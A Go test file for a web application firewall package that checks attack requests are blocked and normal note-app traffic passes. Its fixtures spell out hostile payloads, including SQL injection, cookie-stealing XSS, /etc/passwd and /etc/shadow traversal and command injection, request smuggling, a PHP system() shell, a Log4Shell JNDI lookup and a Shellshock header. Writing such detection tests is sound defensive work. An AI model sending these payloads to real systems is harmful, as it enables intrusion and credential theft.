package shield

import (
	"net/http"
	"slices"
	"strings"
	"testing"
)

// attacks are clear attacks that block mode must refuse, each with the
// category that must be among the verdict's.
var attacks = []struct {
	name, method, target, body string
	hdrs                       [][2]string
	category                   string
}{
	{"sqli query", "GET", "/api/v1/folders?folderId=1%27%20OR%20%271%27=%271", "", nil, "sqli"},
	{"sqli union query", "GET", "/api/v1/search?q=1%20UNION%20SELECT%20password%20FROM%20users--", "", nil, "sqli"},
	{"sqli json body", "POST", "/api/v1/folders", `{"title":"x","content":"1' OR '1'='1' -- ","folderId":"1' UNION SELECT password FROM users--"}`, apiHeaders, "sqli"},
	{"xss query", "GET", "/api/v1/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", "", nil, "xss"},
	{"xss form body", "POST", "/login", "email=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E&password=x", formHeaders, "xss"},
	{"traversal path", "GET", "/static/../../etc/passwd", "", nil, "lfi"},
	{"traversal encoded path", "GET", "/static/..%2f..%2f..%2fetc%2fpasswd", "", nil, "lfi"},
	{"traversal arg", "GET", "/api/v1/me/exports/1?file=../../../../etc/passwd", "", nil, "lfi"},
	{"rce arg", "GET", "/api/v1/search?q=x;cat%20/etc/passwd", "", nil, "rce"},
	{"rce json body", "POST", "/api/v1/folders", `{"title":"x","content":"a; /bin/bash -c 'cat /etc/shadow'"}`, apiHeaders, "rce"},
	{"crlf injection arg", "GET", "/api/v1/search?q=x%0d%0aSet-Cookie:%20evil=1", "", nil, "protocol-attack"},
	{"smuggled request in body", "POST", "/login", "email=x&password=y%0d%0a%0d%0aGET%20/admin%20HTTP/1.1%0d%0aHost:%20internal", formHeaders, "protocol-attack"},
	{"header injection in arg name", "GET", "/api/v1/search?q%0d%0aX-Injected:%201=x", "", nil, "protocol-attack"},
	{"php injection", "GET", "/api/v1/search?q=%3C%3Fphp%20system(%24_GET%5Bc%5D)%3B%20%3F%3E", "", nil, "php"},
	{"java log4shell header", "GET", "/notes/abc", "", [][2]string{{"X-Api-Version", "${jndi:ldap://203.0.113.1/a}"}}, "java"},
	{"scanner user agent", "GET", "/notes/abc", "", [][2]string{{"User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"}}, "scanner"},
}

func TestAttacksBlocked(t *testing.T) {
	t.Parallel()
	for _, pre := range []bool{false, true} {
		s := mustShield(t, Config{}, pre)
		for _, a := range attacks {
			r := req(a.method, a.target, a.body, a.hdrs...)
			v := s.Inspect(r, "")
			if !v.Blocked || v.Status != http.StatusForbidden || v.Prefiltered {
				t.Errorf("pre=%v %s: %+v, want blocked with 403", pre, a.name, v)
				continue
			}
			if !slices.Contains(v.Categories, a.category) {
				t.Errorf("pre=%v %s: categories %v, want %q", pre, a.name, v.Categories, a.category)
			}
			if v.AnomalyScore < s.Config().InboundAnomalyThreshold || !slices.Contains(v.RuleIDs, 949110) {
				t.Errorf("pre=%v %s: score %d, rules %v", pre, a.name, v.AnomalyScore, v.RuleIDs)
			}
		}
	}
}

// ordinary traffic must pass at the default paranoia level.
var ordinary = []struct {
	name, method, target, body string
	hdrs                       [][2]string
}{
	{"page GET", "GET", "/notes/abc", "", [][2]string{{"Cookie", sessionCookie}}},
	{"first visit", "GET", "/", "", nil},
	{"static asset", "GET", "/static/app.css", "", [][2]string{{"Accept", "text/css,*/*;q=0.1"}, {"Sec-Fetch-Dest", "style"}}},
	{"api list", "GET", "/api/v1/folders?folderId=7c1f2a9e-3b4d-4e5f-8a6b-1c2d3e4f5a6b&pinnedOnly=true", "", apiHeaders},
	{"search", "GET", "/api/v1/search?q=meeting%20notes%20from%20tuesday", "", apiHeaders},
	{"note save", "POST", "/api/v1/folders", noteJSON, apiHeaders},
	{"note patch", "PATCH", "/api/v1/folders/abc", `{"isPinned":true,"folderId":null}`, apiHeaders},
	{"note delete", "DELETE", "/api/v1/folders/abc", "", apiHeaders},
	{"sign-in form", "POST", "/login", "email=ada%40example.com&password=correct+horse+battery+staple%21", formHeaders},
	{"sign-in json", "POST", "/api/v1/auth/login", `{"email":"ada@example.com","password":"Tr0ub4dor&3 is not it"}`, apiHeaders},
	{"bearer api", "GET", "/v1/models", "", [][2]string{{"Authorization", "Bearer qk_live_Zk3xT9vQ2mLpR7sW4nB8yC1dF6gH0jK5"}, {"User-Agent", "OpenAI/Python 1.35.0"}, {"Accept", "application/json"}}},
}

// noteJSON is a note save whose markdown has the punctuation notes have.
const noteJSON = `{"title":"Weekly sync — 3/14","content":"# Agenda\n\n- Review *Q1* numbers (up 12%)\n- Ship the **editor** fix: see [issue](https://example.com/i/42)\n\n> Don't forget: the demo is at 10:30, room B.\n\n1. Alice & Bob: slides\n2. Carol: notes, \"as usual\"\n","folderId":"7c1f2a9e-3b4d-4e5f-8a6b-1c2d3e4f5a6b","isPinned":false}`

func TestOrdinaryTrafficPasses(t *testing.T) {
	t.Parallel()
	for _, pre := range []bool{false, true} {
		s := mustShield(t, Config{}, pre)
		for _, o := range ordinary {
			v := s.Inspect(req(o.method, o.target, o.body, o.hdrs...), "")
			if v.Blocked || len(v.RuleIDs) != 0 {
				t.Errorf("pre=%v %s: %+v, want a clean pass", pre, o.name, v)
			}
		}
	}
}

// TestSmugglingHeaders: Content-Length with Transfer-Encoding is a CRS
// warning (920181, score 3), reported but below the default threshold;
// with a second warning it blocks.
func TestSmugglingHeaders(t *testing.T) {
	t.Parallel()
	s := mustShield(t, Config{}, true)
	r := req("POST", "/api/v1/folders", `{"title":"x"}`, append(slices.Clone(apiHeaders), [2]string{"Content-Length", "13"})...)
	r.TransferEncoding = []string{"chunked"}
	v := s.Inspect(r, "")
	if v.Blocked || !slices.Contains(v.RuleIDs, 920181) || v.AnomalyScore != 3 {
		t.Fatalf("CL+TE: %+v", v)
	}
	r = req("POST", "/api/v1/folders", `{"title":"x"}`, append(slices.Clone(apiHeaders), [2]string{"Content-Length", "13"}, [2]string{"Range", "bytes=0-1,2-3,4-5,6-7,8-9,10-11"})...)
	r.TransferEncoding = []string{"chunked"}
	if v = mustShield(t, Config{InboundAnomalyThreshold: 3}, true).Inspect(r, ""); !v.Blocked {
		t.Fatalf("CL+TE at threshold 3: %+v", v)
	}
}

func TestExcludedRouteBody(t *testing.T) {
	t.Parallel()
	// Bypass off: this is about exclusions, which also apply to routes
	// an operator chooses not to bypass.
	s := mustShield(t, Config{Bypass: []string{}}, true)
	prompt := `{"model":"gpt-4o-mini","messages":[{"role":"user","content":"Why is SELECT * FROM users WHERE name = '' OR 1=1 -- a classic SQL injection? And what does <script>alert(1)</script> do? Explain ; cat /etc/passwd too."}]}`
	hdrs := [][2]string{{"Authorization", "Bearer qk_live_x"}, {"Content-Type", "application/json"}, {"Accept", "application/json"}}
	v := s.Inspect(req("POST", "/v1/chat/completions", prompt, hdrs...), "")
	if v.Blocked || !v.BodySkipped || len(v.RuleIDs) != 0 {
		t.Fatalf("prompt on an excluded route: %+v", v)
	}
	// The same text in the query of the same route is inspected.
	v = s.Inspect(req("POST", "/v1/chat/completions?x=1%27%20OR%201=1%20--%20", prompt, hdrs...), "")
	if !v.Blocked || !slices.Contains(v.Categories, "sqli") {
		t.Fatalf("SQL in the query of an excluded route: %+v", v)
	}
	// And in a header.
	v = s.Inspect(req("POST", "/v1/chat/completions", prompt, append(hdrs, [2]string{"X-Debug", "() { :; }; /bin/cat /etc/passwd"})...), "")
	if !v.Blocked {
		t.Fatalf("shellshock header on an excluded route: %+v", v)
	}
	// The prompt is inspected on a route that is not excluded.
	v = s.Inspect(req("POST", "/api/v1/folders", prompt, hdrs...), "")
	if !v.Blocked || v.BodySkipped {
		t.Fatalf("prompt on a route that is not excluded: %+v", v)
	}
}

func TestExclusionNeedsCleanPath(t *testing.T) {
	t.Parallel()
	s := mustShield(t, Config{}, true)
	for _, target := range []string{
		"/v1/chat/completions/../../api/v1/notes",
		"/v1/chat/completions/..%2f..%2fapi/v1/notes",
		"/v1//chat/completions",
		"/v1/chat/completionsX",
		"/v1/chat/completions%2Fx",
	} {
		r := req("POST", target, `{"content":"1' OR '1'='1' --"}`, [2]string{"Content-Type", "application/json"})
		if s.excluded(r) {
			t.Errorf("%s counts as excluded", target)
		}
	}
	for _, target := range []string{"/v1/chat/completions", "/v1/chat/completions/", "/anthropic/v1/messages", "/v1/chat/completions/x"} {
		if !s.excluded(req("POST", target, "x")) {
			t.Errorf("%s does not count as excluded", target)
		}
	}
	custom := mustShield(t, Config{Exclusions: []string{}}, true)
	if custom.excluded(req("POST", "/v1/chat/completions", "x")) {
		t.Error("an empty exclusion list still excludes the default routes")
	}
}

func TestDisabled(t *testing.T) {
	t.Parallel()
	off := false
	s, err := New(Config{Enabled: &off})
	if err != nil {
		t.Fatal(err)
	}
	if v := s.Inspect(req("GET", "/?q=%3Cscript%3Ealert(1)%3C/script%3E", ""), "c"); v.Blocked {
		t.Fatalf("disabled shield blocked: %+v", v)
	}
	var nilShield *Shield
	if v := nilShield.Inspect(req("GET", "/", ""), ""); v.Blocked {
		t.Fatal("nil shield blocked")
	}
}

func TestParanoiaLevelRaisesDetection(t *testing.T) {
	t.Parallel()
	// 942450 (SQL hex encoding) is a paranoia level 2 rule.
	r := func() *http.Request { return req("GET", "/api/v1/search?q=0x41424344454647", "", apiHeaders...) }
	if v := mustShield(t, Config{}, true).Inspect(r(), ""); slices.Contains(v.RuleIDs, 942450) {
		t.Fatalf("level 1 ran a level 2 rule: %+v", v)
	}
	if v := mustShield(t, Config{ParanoiaLevel: 2}, true).Inspect(r(), ""); !slices.Contains(v.RuleIDs, 942450) {
		t.Fatalf("level 2 did not run 942450: %+v", v)
	}
}

func TestThreshold(t *testing.T) {
	t.Parallel()
	// One critical rule scores 5: blocked at 5, passed at 10.
	r := func() *http.Request { return req("GET", "/api/v1/search?q=x;cat%20/etc/passwd", "") }
	low := mustShield(t, Config{}, true).Inspect(r(), "")
	high := mustShield(t, Config{InboundAnomalyThreshold: 1000}, true).Inspect(r(), "")
	if !low.Blocked || high.Blocked || high.AnomalyScore != low.AnomalyScore || len(high.RuleIDs) == 0 {
		t.Fatalf("threshold 5: %+v; threshold 1000: %+v", low, high)
	}
	if strings.Contains(strings.Join(high.Categories, ","), "rce") == false {
		t.Fatalf("categories at threshold 1000: %v", high.Categories)
	}
}
